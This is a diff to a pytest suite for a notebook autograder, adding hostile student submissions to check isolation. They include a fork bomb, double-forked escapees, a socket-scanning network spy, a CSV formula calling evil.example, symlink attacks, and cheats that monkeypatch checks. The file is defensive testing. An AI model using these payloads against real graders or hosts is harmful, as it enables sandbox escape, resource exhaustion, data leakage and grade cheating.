@@ -24,6 +24,7 @@ import json
 import os
 import shutil
 import signal
+import socket
 import subprocess
 import sys
 import tempfile
@@ -37,7 +38,11 @@ import pytest
 import coursework
 from coursework.build import dumps, split_notebook
 from coursework.grading.integrity import hash_files
-from coursework.grading.isolation import Isolation, probe
+from coursework.grading.probe import Isolation, probe
+
+# One battery grades ~27 submissions: on a loaded 2-core machine its setup
+# alone can pass the suite's 900 s default.
+pytestmark = pytest.mark.timeout(2400)
 
 HERE = Path(__file__).resolve().parent
 ROOT = HERE.parent.parent
@@ -58,6 +63,8 @@ FAST = [
     "90",
     "--memory-mb",
     "1500",
+    "--max-processes",
+    "96",
 ]
 
 
@@ -193,10 +200,135 @@ def killer(grader_too: bool) -> str:
     )
     return (
         "import os, signal\n" + PAIRWISE + "    victims = [os.getppid()]\n"
+        "    if victims[0] == 0:  # the parent is outside this process namespace\n"
+        "        raise ProcessLookupError('no parent to kill')\n"
         f"{grader}"
         "    for pid in victims:\n"
         "        os.kill(pid, signal.SIGKILL)\n"
         "    return (a[:, None, :] - b[None, :, :]).pow(2).sum(-1)\n"
+    )
+
+
+# Issue 22: what got through before. Each is a cell of its own in a notebook
+# that otherwise holds the full solution, so it must still get full marks.
+FORK_BOMB = (  # bounded: the cap must refuse it long before 300
+    "import subprocess\n"
+    "procs = []\n"
+    "try:\n"
+    "    for _ in range(300):\n"
+    "        procs.append(subprocess.Popen(['sleep', '60.123']))\n"
+    "    print('FORKED', len(procs))\n"
+    "except OSError as exc:\n"
+    "    print('REFUSED after', len(procs), type(exc).__name__)\n"
+    "for proc in procs:\n"
+    "    proc.kill()\n"
+    "    proc.wait()\n"
+)
+ESCAPE = (  # a double-forked, setsid process that should outlive its job
+    "import os\n"
+    "if os.fork() == 0:\n"
+    "    os.setsid()\n"
+    "    if os.fork() == 0:\n"
+    "        os.execvp('sleep', ['sleep', '300.5'])\n"
+    "    os._exit(0)\n"
+    "os.wait()\n"
+    "print('ESCAPED')\n"
+)
+ESCAPED_HOG = (  # a double-forked process holding memory over the cap
+    "import os, time\n"
+    "if os.fork() == 0:\n"
+    "    if os.fork() == 0:\n"
+    "        hog = [b'x' * (1000 * 2**20) for _ in range(2)]\n"
+    "        time.sleep(60)\n"
+    "    os._exit(0)\n"
+    "os.wait()\n"
+    "time.sleep(30)\n"
+)
+LEFT_BEHIND = ("60.123", "300.5")
+DISPLAY_FLOOD = (
+    "from IPython.display import display\n"
+    "handles = [display('x', display_id='same') for _ in range(20)]\n"
+    "handles[0].update('y' * (8 * 2**20))\n"
+)
+NESTED = '{"a":' * 100_000 + "1" + "}" * 100_000
+FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
+DYNAMIC_REFERENCE = (
+    "import importlib\n"
+    "def softplus(x):\n"
+    "    module = importlib.import_module('torch.nn.' + 'functional')\n"
+    "    return getattr(module, 'soft' + 'plus')(x)\n"
+)
+HIDDEN_ONLY = (  # right on every public case, wrong on the hidden one (x = 500)
+    "import torch\n"
+    "def softplus(x):\n"
+    "    return torch.logaddexp(x, torch.zeros_like(x)).clamp(max=100)\n"
+)
+
+
+def net_spy(port: int) -> str:
+    """A cell that looks for other kernels' sockets (issue 22's attack) and the grader.
+
+    It counts the processes it sees, the listening TCP sockets other than its
+    own kernel's (ipykernel listens on loopback even over ipc) and the unix
+    sockets outside its own folder (a classmate's kernel, TCP or ipc), tries
+    to connect to each of those, and to a grader-side port.
+    """
+    return (
+        "import os, socket\n"
+        "print('PIDS', sum(p.isdigit() for p in os.listdir('/proc')))\n"
+        "def table(name):\n"
+        "    try:\n"
+        "        return open('/proc/net/' + name).read().splitlines()[1:]\n"
+        "    except OSError:\n"
+        "        return []\n"
+        "own = set()\n"  # the kernel's own sockets (ipykernel listens on loopback)
+        "for fd in os.listdir('/proc/self/fd'):\n"
+        "    try:\n"
+        "        own.add(os.readlink('/proc/self/fd/' + fd))\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "ports = {int(r.split()[1].rsplit(':', 1)[1], 16)\n"
+        "         for name in ('tcp', 'tcp6') for r in table(name)\n"
+        "         if r.split()[3] == '0A'\n"
+        "         and 'socket:[' + r.split()[9] + ']' not in own}\n"
+        "paths = {r.split()[-1] for r in table('unix') if r.split()[-1][:1] == '/'}\n"
+        "paths = {p for p in paths if not p.startswith(os.getcwd())}\n"
+        "tcp = unix = 0\n"
+        "for p in ports:\n"
+        "    for host in ('127.0.0.1', '::1'):\n"
+        "        try:\n"
+        "            socket.create_connection((host, p), timeout=2).close()\n"
+        "            tcp += 1\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "for p in paths:\n"
+        "    try:\n"
+        "        s = socket.socket(socket.AF_UNIX)\n"
+        "        s.settimeout(2)\n"
+        "        s.connect(p)\n"
+        "        s.close()\n"
+        "        unix += 1\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "print('LISTENING', len(ports), 'CONNECTED', tcp)\n"
+        "print('FOREIGN', len(paths), 'CONNECTED', unix)\n"
+        "try:\n"
+        f"    socket.create_connection(('127.0.0.1', {port}), timeout=5).close()\n"
+        "    print('REACHED')\n"
+        "except OSError as exc:\n"
+        "    print('UNREACHABLE', exc)\n"
+    )
+
+
+def checked_offline(port: int) -> str:
+    """``normalize``, right only where it cannot reach the grader's port: it runs
+    in the checks child, which gets the hidden inputs (issue 22 (12))."""
+    return (
+        "import socket\n" + NORMALIZE + "    try:\n"
+        f"        socket.create_connection(('127.0.0.1', {port}), timeout=2).close()\n"
+        "        return x  # the network was open: a wrong answer tells the test\n"
+        "    except OSError:\n"
+        "        return x / (x.norm(dim=-1, keepdim=True) + eps)\n"
     )
 
 
@@ -207,12 +339,16 @@ def battery(
     out: Path,
     checks: Path | None = None,
     isolation: Isolation | None = None,
+    port: int | None = None,
 ) -> dict[str, str | nbformat.NotebookNode]:
     """Every submission of the battery: a notebook, or raw text for broken files.
 
     With OS isolation (``isolation`` not process-only) the attacks that only
-    isolation can stop are added, each beside the honest submissions.
+    isolation can stop are added, each beside the honest submissions;
+    ``port`` (a socket the test listens on) adds the network spy.
     """
+    spy = [net_spy(port)] if port else []
+    offline = {"demo.normalize": checked_offline(port)} if port else {}
     text = dumps(solution)
     writer = (
         "import os, pathlib\n"
@@ -262,8 +398,10 @@ def battery(
             [
                 "import torch.nn.functional as F\n"
                 "import coursework.exercises.core as core\n"
+                "import coursework.exercises.compare as compare\n"
                 "F.softplus = lambda x: x\n"
                 "core.compare_values = lambda *a, **k: None\n"
+                "compare.compare_values = lambda *a, **k: None\n"
                 "core.run_check = lambda *a, **k: None"
             ],
         ),
@@ -288,6 +426,19 @@ def battery(
         "truncated": text[: len(text) // 2],
         "wrong_version": json.dumps({**json.loads(text), "nbformat": 99}),
         "empty": "",
+        # several attacks per notebook keep the battery's run time in check
+        "escapee": variant(solution, offline, [FORK_BOMB, ESCAPE, *spy, ESCAPED_HOG]),
+        "nested": NESTED,
+        "mixed": variant(
+            solution,
+            {
+                "demo.softplus": DYNAMIC_REFERENCE,
+                "demo.normalize": NORMALIZE
+                + f"    raise NotImplementedError({FORMULA!r})\n",
+            },
+            [DISPLAY_FLOOD],
+        ),
+        "hidden_only": variant(solution, {"demo.softplus": HIDDEN_ONLY}),
         **(security_battery(solution, student, subs, out, checks, isolation)),
     }
 
@@ -386,13 +537,18 @@ def grade(
     *args: str,
     prefix: list[str] | None = None,
     timeout: float = 3000,
+    path: str | None = None,
 ) -> subprocess.CompletedProcess[str]:
-    """Run the grader on the package copy in ``package`` (a subprocess)."""
+    """Run the grader on the package copy in ``package`` (a subprocess).
+
+    ``path`` replaces ``PATH`` (where the grader looks for ``unshare``).
+    """
     env = {
         **os.environ,
         "PYTHONPATH": str(package),
         "COURSEWORK_THREADS": "1",
         "OMP_NUM_THREADS": "1",
+        **({"PATH": path} if path is not None else {}),
     }
     command = [sys.executable, "-m", "coursework", "grade", str(subs)]
     return subprocess.run(
@@ -418,15 +574,25 @@ def graded(
     subs, out = base / "submissions", base / "results"
     checks = private_checks(base)
     solution, student = demo_notebooks()
-    items = battery(solution, student, subs, out, checks, isolation)
+    listener = socket.create_server(("127.0.0.1", 0))
+    port = listener.getsockname()[1]
+    items = battery(solution, student, subs, out, checks, isolation, port)
     write_submissions(subs, items)
+    victim = links_submission(subs, base, solution)
     before = package_state(), hash_files(package_copy / "coursework")
     args = [*FAST]
     args[args.index("--checks") + 1] = str(checks)
-    done = grade(package_copy, subs, out, *args)
+    try:
+        done = grade(package_copy, subs, out, *args)
+    finally:
+        listener.close()
     results = {(r["student"], r["exercise"]): r for r in read_csv(out / "results.csv")}
     grades = {r["student"]: r for r in read_csv(out / "grades.csv")}
     return {
+        "alive": left_behind(),
+        "victim": victim,
+        "victim_after": (victim / "target.json").read_text(),
+        "victim_owner": (victim / "home").stat().st_uid,
         "status": done.returncode,
         "stderr": done.stderr,
         "out": out,
@@ -434,11 +600,50 @@ def graded(
         "base": base,
         "results": results,
         "grades": grades,
-        "names": list(items),
+        "names": [*items, "linked"],
         "isolation": isolation,
         "package_before": before,
         "package_after": (package_state(), hash_files(package_copy / "coursework")),
     }
+
+
+def links_submission(subs: Path, base: Path, solution: nbformat.NotebookNode) -> Path:
+    """A student folder whose links point out of it, and a notebook that is a link.
+
+    ``linked/`` holds the solution and, where the grader writes and chowns,
+    links to files outside (the kernel spec, the home folder); ``symlinked.ipynb``
+    is a link to a notebook outside the submissions. Returns the victims' folder.
+    """
+    victim = base / "victim"
+    (victim / "home").mkdir(parents=True)
+    (victim / "target.json").write_text("untouched")
+    (victim / "outside.ipynb").write_text(dumps(solution))
+    folder = subs / "linked"
+    folder.mkdir()
+    (folder / "linked.ipynb").write_text(dumps(solution))
+    spec = folder / ".kernelspec" / "kernels" / "coursework-grading"
+    spec.mkdir(parents=True)
+    (spec / "kernel.json").symlink_to(victim / "target.json")
+    (folder / ".home").symlink_to(victim / "home")
+    (folder / ".runtime").symlink_to(victim)
+    (subs / "symlinked.ipynb").symlink_to(victim / "outside.ipynb")
+    return victim
+
+
+def left_behind() -> list[str]:
+    """Command lines of processes that the battery's escapees started, still alive."""
+    alive = []
+    for entry in Path("/proc").iterdir():
+        if not entry.name.isdigit():
+            continue
+        try:
+            argv = (entry / "cmdline").read_bytes().split(b"\0")
+        except OSError:
+            continue
+        words = [a.decode(errors="replace") for a in argv]
+        if words[:1] == ["sleep"] and any(w in LEFT_BEHIND for w in words):
+            alive.append(" ".join(words))
+    return alive
 
 
 def needs_isolation(graded: dict[str, object]) -> Isolation:
@@ -493,6 +698,10 @@ def test_solution_gets_full_marks_and_student_version_zero(
         ("renamed", {"demo.softplus": "missing"}),
         ("alias", {"demo.softplus": "uses-reference"}),
         ("wrapper", {"demo.softplus": "uses-reference"}),
+        ("escapee", {}),
+        ("mixed", {"demo.softplus": "uses-reference", "demo.normalize": "missing"}),
+        ("hidden_only", {"demo.softplus": "failed"}),
+        ("linked", {}),
     ],
 )
 def test_hostile_submission(
@@ -511,7 +720,7 @@ def test_hostile_submission(
 
 
 @pytest.mark.parametrize(
-    "student", ["invalid_json", "truncated", "wrong_version", "empty"]
+    "student", ["invalid_json", "truncated", "wrong_version", "empty", "nested"]
 )
 def test_unreadable_notebook_is_invalid(
     graded: dict[str, object], student: str
@@ -519,6 +728,94 @@ def test_unreadable_notebook_is_invalid(
     assert set(statuses(graded, student).values()) == {"invalid-notebook"}
     feedback = (graded["out"] / "feedback" / f"{student}.md").read_text()  # type: ignore[operator]
     assert "could not be graded" in feedback
+
+
+def test_no_process_of_the_run_is_left_alive(graded: dict[str, object]) -> None:
+    """Issue 22 (2): a double-forked, setsid process dies with its job."""
+    assert "ESCAPED" in executed_output(graded, "escapee")
+    assert graded["alive"] == []
+
+
+def test_process_count_is_capped(graded: dict[str, object]) -> None:
+    """Issue 22 (3): a fork bomb (bounded at 300 here) is refused at the cap."""
+    printed = executed_output(graded, "escapee")
+    assert "REFUSED after" in printed and "FORKED" not in printed
+    started = int(printed.split("REFUSED after")[1].split()[0])
+    assert started < 96
+
+
+def test_memory_of_every_process_of_a_job_is_watched(
+    graded: dict[str, object],
+) -> None:
+    """Issue 22 (4): a double-forked process over the cap is a memory event."""
+    iso: Isolation = graded["isolation"]  # type: ignore[assignment]
+    if not iso.namespaces:
+        pytest.skip("no process namespace here: orphans leave the kernel's tree")
+    feedback = (graded["out"] / "feedback" / "escapee.md").read_text()  # type: ignore[operator]
+    assert "memory: `used more than 1500 MB of memory`" in feedback
+    assert float(graded["grades"]["escapee"]["total"]) == 4  # type: ignore[index]
+
+
+def test_student_code_has_no_network_and_sees_only_its_job(
+    graded: dict[str, object],
+) -> None:
+    """Issue 22 (1, 12): no socket of the grader's machine, no classmate's
+    process, in the kernel and in the checks child (which runs the hidden
+    cases: its ``normalize`` passes only where the network is closed)."""
+    iso: Isolation = graded["isolation"]  # type: ignore[assignment]
+    if not iso.namespaces:
+        pytest.skip(f"namespaces are refused here: {'; '.join(iso.notes)}")
+    printed = executed_output(graded, "escapee")
+    assert "UNREACHABLE" in printed and "REACHED\n" not in printed
+    assert int(printed.split("PIDS")[1].split()[0]) <= 3
+    row = graded["results"][("escapee", "demo.normalize")]  # type: ignore[index]
+    assert row["status"] == "passed", row["message"]
+    # no classmate's kernel to find or reach, over TCP or an ipc socket
+    assert "LISTENING 0 CONNECTED 0\nFOREIGN 0 CONNECTED 0\n" in printed
+    assert "network" in iso.describe() and iso.describe() in graded["stderr"]  # type: ignore[operator]
+
+
+def test_display_updates_count_in_the_output_cap(graded: dict[str, object]) -> None:
+    """Issue 22 (5): one 8 MiB update of twenty displays sharing an id."""
+    executed = graded["out"] / "executed" / "mixed.ipynb"  # type: ignore[operator]
+    assert executed.stat().st_size < 2 * 2**20
+    assert "output truncated" in executed.read_text()
+
+
+def test_csv_cells_cannot_start_a_formula(graded: dict[str, object]) -> None:
+    """Issue 22 (6): a student's message reaches results.csv inert."""
+    row = graded["results"][("mixed", "demo.normalize")]  # type: ignore[index]
+    assert row["message"] == "'" + FORMULA
+    for path in ("results.csv", "grades.csv", "summary.csv"):
+        for r in read_csv(graded["out"] / path):  # type: ignore[operator]
+            for value in r.values():
+                assert not value.lstrip(" ").startswith(("=", "+", "@")), value
+
+
+def test_links_in_a_submission_are_never_followed(graded: dict[str, object]) -> None:
+    """Issue 22 (8): no write or chown through a student's link; a linked
+    notebook is not graded."""
+    assert graded["victim_after"] == "untouched"
+    assert graded["victim_owner"] == os.getuid()
+    assert "symlinked" not in graded["grades"]  # type: ignore[operator]
+    assert float(graded["grades"]["linked"]["total"]) == 4  # type: ignore[index]
+
+
+def test_run_time_reference_use_is_found(graded: dict[str, object]) -> None:
+    """Issue 22 (11): importlib + getattr reach the reference; no points."""
+    row = graded["results"][("mixed", "demo.softplus")]  # type: ignore[index]
+    assert float(row["points"]) == 0 and "run time" in row["message"]
+
+
+def test_hidden_cases_show_verdict_and_hint_only(graded: dict[str, object]) -> None:
+    """Issue 22 (12): a hidden case's failure says which, never its values."""
+    feedback = (graded["out"] / "feedback" / "hidden_only.md").read_text()  # type: ignore[operator]
+    assert "hidden case 1: failed" in feedback
+    assert "Hint:" in feedback
+    row = graded["results"][("hidden_only", "demo.softplus")]  # type: ignore[index]
+    for leak in ("500", "100", "expected"):
+        assert leak not in feedback.split("hidden case 1")[1].split("\n")[0]
+        assert leak not in row["message"]
 
 
 def test_memory_hog_is_reported_as_memory(graded: dict[str, object]) -> None:
@@ -615,7 +912,52 @@ def test_student_code_cannot_kill_the_grader(graded: dict[str, object]) -> None:
     row = graded["results"][("a_attacker", "demo.pairwise_sq_dists")]  # type: ignore[index]
     assert row["status"] == "error" and float(row["points"]) == 0
     if iso.signals_contained:
-        assert "PermissionError" in row["message"]
+        assert any(e in row["message"] for e in ("PermissionError", "ProcessLookup"))
+
+
+def test_without_namespaces_landlock_still_closes_tcp(
+    tmp_path: Path, package_copy: Path
+) -> None:
+    """Issue 22 (1) where namespaces are refused (here: no ``unshare`` on PATH).
+
+    Kernels then talk to the grader over TCP on the machine's network, so
+    Landlock (ABI 4) must refuse student code every TCP connection: to the
+    other kernels' ports it finds in ``/proc/net/tcp`` and to the grader's.
+    """
+    from coursework.grading.oscalls import landlock_abi
+
+    if landlock_abi() < 4:
+        pytest.skip("Landlock's network rules need ABI 4 (Linux 6.7)")
+    tools = tmp_path / "bin"  # every command on PATH but unshare
+    tools.mkdir()
+    for folder in os.environ.get("PATH", "").split(os.pathsep):
+        for entry in Path(folder).glob("*") if folder else []:
+            if entry.name != "unshare" and not (tools / entry.name).exists():
+                (tools / entry.name).symlink_to(entry)
+    solution, _ = demo_notebooks()
+    subs, out = tmp_path / "submissions", tmp_path / "results"
+    listener = socket.create_server(("127.0.0.1", 0))
+    port = listener.getsockname()[1]
+    write_submissions(subs, {"spy": variant(solution, extra=[net_spy(port)])})
+    args = [*FAST]
+    args[args.index("--checks") + 1] = str(private_checks(tmp_path))
+    args[args.index("--jobs") + 1] = "1"
+    try:
+        done = grade(package_copy, subs, out, *args, path=str(tools))
+    finally:
+        listener.close()
+    assert done.returncode == 0, done.stderr
+    line = done.stderr.split("isolation:")[1].splitlines()[0]
+    assert "namespace" not in line and "(no TCP connections)" in line, line
+    grades = {r["student"]: r for r in read_csv(out / "grades.csv")}
+    assert float(grades["spy"]["total"]) == 4  # the kernel itself still works
+    nb = json.loads((out / "executed" / "spy.ipynb").read_text())
+    printed = "".join(
+        "".join(o.get("text", "")) for c in nb["cells"] for o in c.get("outputs", [])
+    )
+    assert "UNREACHABLE" in printed and "REACHED\n" not in printed
+    listening = printed.split("LISTENING")[1].split()
+    assert int(listening[0]) > 0 and listening[1:3] == ["CONNECTED", "0"]
 
 
 def test_tampering_without_isolation_stops_the_run(
@@ -691,6 +1033,39 @@ def test_statuses_do_not_depend_on_an_idle_machine(
     assert "memory" in loaded[("memory", "demo.normalize")]["message"]
 
 
+NO_RUN = [*UNDER_LOAD, "student", "fake_pass", "redefine_check", "monkeypatch"]
+
+
+def test_no_run_gives_the_same_grades_without_running_notebooks(
+    graded: dict[str, object], tmp_path: Path, package_copy: Path
+) -> None:
+    """--no-run skips the notebook run (feedback only) and changes no grade, for
+    honest notebooks and for the attacks that act in functions or at top level."""
+    solution, student = demo_notebooks()
+    subs, out = tmp_path / "submissions", tmp_path / "results"
+    items = battery(solution, student, subs, out)
+    write_submissions(subs, {n: items[n] for n in NO_RUN})
+    args = [*FAST, "--no-run"]
+    args[args.index("--checks") + 1] = str(private_checks(tmp_path))
+    done = grade(package_copy, subs, out, *args)
+    assert done.returncode == 0, done.stderr
+    rows = {(r["student"], r["exercise"]): r for r in read_csv(out / "results.csv")}
+    idle = graded["results"]
+    for name in NO_RUN:
+        for i in IDS:
+            got, want = rows[(name, i)], idle[(name, i)]  # type: ignore[index]
+            assert (got["status"], got["points"]) == (
+                want["status"],
+                want["points"],
+            ), (name, i)
+    grades = {r["student"]: r for r in read_csv(out / "grades.csv")}
+    for name in NO_RUN:
+        assert grades[name] == graded["grades"][name]  # type: ignore[index]
+    feedback = (out / "feedback" / "solution.md").read_text()
+    assert "the notebook itself was not run" in feedback
+    assert not list((out / "executed").glob("*.ipynb"))
+
+
 NOBODY = 65534
 
 
@@ -741,7 +1116,7 @@ def test_battery_as_an_unprivileged_user(tmp_path: Path, package_copy: Path) -> 
         args[args.index("--checks") + 1] = str(checks)
         done = grade(package_copy, subs, out, *args, prefix=prefix)
         assert done.returncode == 0, done.stderr
-        assert "isolation: Landlock" in done.stderr
+        assert "Landlock" in done.stderr.split("isolation:")[1].splitlines()[0]
         grades = {r["student"]: r for r in read_csv(out / "grades.csv")}
         assert sorted(grades) == sorted(names)
         assert float(grades["solution"]["total"]) == 4
@@ -813,12 +1188,17 @@ def test_interrupted_run_resumes_to_the_same_gradebook(
 
 
 REAL = sorted((ROOT / "solutions").glob("[0-9][0-9]_*.ipynb"))
+# Grades never depend on the notebook run (the checks rebuild the functions
+# from the source), and nbval already runs every notebook in the ci profile:
+# one notebook is graded with its run, the others with --no-run.
+RUN_ONE = "03_vae"
 
 
 @pytest.mark.parametrize("notebook", REAL, ids=[p.stem for p in REAL])
 def test_real_notebook_solution_full_student_zero(
     notebook: Path, tmp_path: Path, package_copy: Path
 ) -> None:
+    """Every exercise of a real notebook: the solution full marks, the student zero."""
     source = notebook.with_suffix(".py")
     if source.exists():
         solution, student, _ = split_notebook(source)
@@ -841,6 +1221,7 @@ def test_real_notebook_solution_full_student_zero(
             "600",
             "--cell-timeout",
             "300",
+            *([] if notebook.stem == RUN_ONE else ["--no-run"]),
         ],
         timeout=850,
     )
@@ -856,6 +1237,10 @@ def test_real_notebook_solution_full_student_zero(
         r for r in read_csv(out / "results.csv") if r["student"] == "student"
     ]
     assert all(r["status"] in ("missing", "failed", "error") for r in student_rows)
+    state = json.loads((out / ".state" / "solution.json").read_text())
+    phases = json.loads(state["record"])["phases"]
+    assert {"read", "copy", "checks start", "checks", "clean-up"} <= set(phases)
+    assert ("cells" in phases) == (notebook.stem == RUN_ONE), phases
 
 
 def test_zip_export_with_student_folders(tmp_path: Path, package_copy: Path) -> None:
@@ -877,3 +1262,25 @@ def test_zip_export_with_student_folders(tmp_path: Path, package_copy: Path) -> 
     assert float(grades[0]["total"]) == 4
     assert not (tmp_path.parent / "evil.ipynb").exists()
     assert not os.path.exists(tmp_path / "evil.ipynb")
+
+
+def test_corrupt_zip_is_refused_and_leaves_no_folder(
+    tmp_path: Path, package_copy: Path
+) -> None:
+    """Issue 22 (9): a corrupt entry is an error message, not a traceback or a leak."""
+    import zipfile
+
+    solution, _ = demo_notebooks()
+    archive = tmp_path / "export.zip"
+    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("a/90_demo.ipynb", dumps(solution))
+    data = bytearray(archive.read_bytes())
+    at = data.find(b"90_demo.ipynb") + len(b"90_demo.ipynb")
+    data[at : at + 64] = bytes(64)
+    archive.write_bytes(bytes(data))
+    before = set(Path(tempfile.gettempdir()).glob("coursework-submissions-*"))
+    done = grade(package_copy, archive, tmp_path / "results", *FAST)
+    assert done.returncode == 1, done.stderr
+    assert "cannot be read" in done.stderr and "Traceback" not in done.stderr
+    after = set(Path(tempfile.gettempdir()).glob("coursework-submissions-*"))
+    assert after <= before
